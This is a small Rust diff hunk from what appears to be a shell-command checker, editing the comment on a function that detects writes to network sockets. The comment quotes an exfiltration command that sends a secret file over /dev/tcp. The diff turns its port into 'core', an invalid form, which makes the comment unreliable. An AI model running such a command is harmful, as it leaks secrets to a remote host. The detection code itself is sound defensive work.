@@ -346,7 +346,7 @@ fn is_file(long: &str, value: &str) -> bool {
     }
 }
 
-/// `cat secret > /dev/tcp/host/port`.
+/// `cat secret > /dev/tcp/host/core`.
 pub(super) fn socket(call: &Call) -> Option<String> {
     let network = |target: &Arg| is_network(target.as_str());
     let tee = call.is(&["tee"]) && call.args().iter().any(network);
